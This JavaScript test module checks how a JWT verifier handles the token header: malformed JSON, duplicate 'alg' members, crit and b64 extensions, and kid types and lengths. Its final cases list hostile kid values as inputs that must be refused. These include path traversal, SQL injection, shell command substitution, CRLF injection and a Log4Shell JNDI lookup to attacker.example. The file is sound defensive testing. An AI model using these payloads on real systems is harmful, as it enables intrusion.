import { accepted, encode, refused } from '../workbench.mjs';

const OBJECT = 'RFC 7515 §4: the header is a JSON object';
const UNIQUE = 'RFC 7515 §4: header member names are unique';
const CRITICAL = 'RFC 7515 §4.1.11: an extension that is not understood';
const UNENCODED = 'RFC 7797 §6: b64 changes what was signed';
const KEY_ID = 'RFC 7515 §4.1.4: kid is a string';

export default function header(bench) {
  const malformed = (name, why, options) =>
    refused('malformed_token', name, why, bench.token({ algorithm: 'ES384', ...options }));
  const good = JSON.stringify(bench.header());
  const { kid } = bench.header();
  const rest = `"typ":"at+jwt","kid":"${kid}"`;
  const longKid = (length) => 'k'.repeat(length);
  const renamed = (name) => ({ keys: [{ ...bench.keys['logto-es384'].jwk, kid: name }] });
  const ascii256 = longKid(256);
  const umlauts256 = 'é'.repeat(128);

  return {
    description: 'The header: a JSON object with unique members, no extensions, and a kid of decent length.',
    keySets: {
      kidOf256Letters: renamed(ascii256),
      kidOf128Umlauts: renamed(umlauts256),
      kidWithQuotes: renamed('a "quoted" \\ kid'),
    },
    cases: [
      accepted('a header as Logto writes it is accepted', 'RFC 9068 §2.1', bench.token(), {
        scopes: ['read:products', 'write:products'],
      }),
      accepted(
        'header members in another order are accepted',
        OBJECT,
        bench.token({ rawHeader: `{"kid":"${kid}","typ":"at+jwt","alg":"ES384"}` }),
      ),
      accepted(
        'a header with white space is accepted',
        'RFC 8259 §2',
        bench.token({ rawHeader: `\r\n\t{ "alg" : "ES384",\n${rest} } ` }),
      ),
      accepted(
        'a header value written with an escape is accepted',
        'RFC 8259 §7: the same string',
        bench.token({ rawHeader: `{"alg":"\\u0045S384",${rest}}` }),
      ),
      accepted(
        'a header name written with an escape is accepted',
        'RFC 8259 §7: the same string',
        bench.token({ rawHeader: `{"\\u0061lg":"ES384",${rest}}` }),
      ),
      accepted(
        'unknown header members are ignored',
        'RFC 7515 §4',
        bench.token({ header: { cty: 'JWT', 'x-vendor': { nested: [1, null] } } }),
      ),

      ...[
        ['an array', `[${good}]`],
        ['a string', JSON.stringify(good)],
        ['a number', '7'],
        ['null', 'null'],
        ['true', 'true'],
        ['empty', ''],
        ['white space only', ' '],
        ['cut off', good.slice(0, -1)],
        ['followed by another object', `${good}{}`],
        ['followed by a letter', `${good}x`],
        ['written with a trailing comma', `${good.slice(0, -1)},}`],
        ['written with single quotes', good.replaceAll('"', "'")],
        ['written with a comment', `/**/${good}`],
        ['preceded by a byte order mark', `\ufeff${good}`],
        ['in UTF-16', Buffer.from(good, 'utf16le')],
        [
          'not UTF-8',
          Buffer.concat([Buffer.from(good.slice(0, -1)), Buffer.from(',"x":"'), Buffer.of(0xff), Buffer.from('"}')]),
        ],
        [
          'overlong UTF-8',
          Buffer.concat([
            Buffer.from(good.slice(0, -1)),
            Buffer.from(',"x":"'),
            Buffer.of(0xc0, 0xaf),
            Buffer.from('"}'),
          ]),
        ],
        ['written with a raw control character', good.replace('at+jwt', 'at+jwt\n')],
        ['an array opened ten thousand times', '['.repeat(10000)],
      ].map(([what, rawHeader]) => malformed(`a header that is ${what} is refused`, OBJECT, { rawHeader })),
      malformed('an empty header object is refused', 'RFC 7515 §4.1.1: alg is required', { rawHeader: '{}' }),

      ...[
        ['alg, the good one first', `{"alg":"ES384","alg":"none",${rest}}`],
        ['alg, the good one last', `{"alg":"none","alg":"ES384",${rest}}`],
        ['alg, twice the same', `{"alg":"ES384","alg":"ES384",${rest}}`],
        ['alg, escaped the second time', `{"alg":"ES384","\\u0061lg":"none",${rest}}`],
        ['alg, escaped the first time', `{"\\u0061\\u006c\\u0067":"none","alg":"ES384",${rest}}`],
        ['alg, at both ends', `{"alg":"none",${rest},"alg":"ES384"}`],
        ['typ', `{"alg":"ES384","typ":"JWT",${rest}}`],
        ['typ, escaped', `{"alg":"ES384","t\\u0079p":"JWT",${rest}}`],
        ['kid', `{"alg":"ES384","kid":"x",${rest}}`],
        ['an unknown member', `{"alg":"ES384","x":1,"x":2,${rest}}`],
        ['an unknown member, escaped', `{"alg":"ES384","x":1,"\\u0078":2,${rest}}`],
        ['an ignored member', `{"alg":"ES384","jku":"https://a.example","jku":"https://b.example",${rest}}`],
        ['a member beyond the basic plane, escaped', `{"alg":"ES384","😀":1,"\\ud83d\\ude00":2,${rest}}`],
        ['the empty name', `{"alg":"ES384","":1,"":2,${rest}}`],
      ].map(([what, rawHeader]) => malformed(`a header that repeats ${what} is refused`, UNIQUE, { rawHeader })),
      accepted(
        'header names that differ in case are two names',
        'RFC 7515 §4.1: names are compared with case',
        bench.token({ header: { ALG: 'none', Typ: 'JWT' } }),
      ),

      ...[
        ['an empty list', []],
        ['a registered claim', ['exp']],
        ['b64', ['b64']],
        ['an unknown extension', ['http://example.com/unknown']],
        ['null', null],
        ['false', false],
        ['a string', 'exp'],
        ['an object', {}],
      ].map(([what, crit]) =>
        malformed(`crit holding ${what} is refused though it is signed`, CRITICAL, { header: { crit, exp: 1 } }),
      ),
      malformed('crit written with an escape is refused', CRITICAL, {
        rawHeader: `{"alg":"ES384","cr\\u0069t":["exp"],${rest}}`,
      }),
      ...[false, true, null, 'false'].map((b64) =>
        malformed(`b64 ${JSON.stringify(b64)} without crit is refused`, UNENCODED, { header: { b64 } }),
      ),
      malformed('b64 false with crit is refused', UNENCODED, { header: { b64: false, crit: ['b64'] } }),

      ...[
        ['missing', undefined],
        ['null', null],
        ['a number', 384],
        ['a list', ['ES384']],
        ['an object', { name: 'ES384' }],
        ['true', true],
      ].map(([what, alg]) =>
        malformed(`an alg that is ${what} is refused`, 'RFC 7515 §4.1.1: alg is a string', { header: { alg } }),
      ),

      ...[
        ['null', null],
        ['a number', 7],
        ['true', true],
        ['a list', [kid]],
        ['an object', { kid }],
      ].map(([what, value]) => malformed(`a kid that is ${what} is refused`, KEY_ID, { header: { kid: value } })),
      malformed('a kid of 257 bytes is refused', 'a kid is at most 256 bytes', { header: { kid: longKid(257) } }),
      malformed('a kid of 258 bytes in 129 characters is refused', 'a kid is measured in bytes of UTF-8', {
        header: { kid: 'é'.repeat(129) },
      }),
      accepted(
        'a kid of 256 bytes is accepted',
        'a kid is at most 256 bytes',
        bench.token({ header: { kid: ascii256 } }),
        { keySet: 'kidOf256Letters' },
      ),
      accepted(
        'a kid of 256 bytes in 128 characters is accepted',
        'a kid is measured in bytes of UTF-8',
        bench.token({ header: { kid: umlauts256 } }),
        {
          keySet: 'kidOf128Umlauts',
        },
      ),
      accepted(
        'a kid with quotes and backslashes is compared after unescaping',
        'RFC 8259 §7',
        bench.token({ header: { kid: 'a "quoted" \\ kid' } }),
        {
          keySet: 'kidWithQuotes',
        },
      ),
      refused('malformed_token', 'a kid of one megabyte is refused', 'a token is at most 16384 bytes', {
        concat: [
          encode('{"alg":"ES384","typ":"at+jwt","kid":"aa'),
          { repeat: 'QUFB', times: 349525 },
          `${encode('"}')}.e30.AA`,
        ],
      }),

      ...[
        '',
        ' ',
        'nobody',
        kid.toLowerCase(),
        `${kid} `,
        ` ${kid}`,
        kid.slice(0, -1),
        `${kid}\u0000`,
        '*',
        '%',
        '.*',
        '0',
        '__proto__',
        'constructor',
      ].map((value) =>
        refused(
          'unknown_key',
          `the kid ${JSON.stringify(value)} names no key`,
          'RFC 7515 §4.1.4: compared with case, whole',
          bench.token({ header: { kid: value } }),
        ),
      ),
      ...[
        '../../../../etc/passwd',
        '..\\..\\windows\\win.ini',
        '/dev/null',
        'file:///dev/null',
        'https://attacker.example/jwks.json',
        "' OR '1'='1",
        'x" or "1"="1',
        "x'; DROP TABLE keys; --",
        '$(id)',
        '`id`',
        '| id',
        '\u0000',
        'line\r\nfeed',
        '${jndi:ldap://attacker.example/a}',
      ].map((value) =>
        refused(
          'unknown_key',
          `the kid ${JSON.stringify(value)} is a name and nothing else`,
          'RFC 8725 §3.10: a kid is not to be trusted',
          bench.token({ header: { kid: value } }),
        ),
      ),
    ],
  };
}
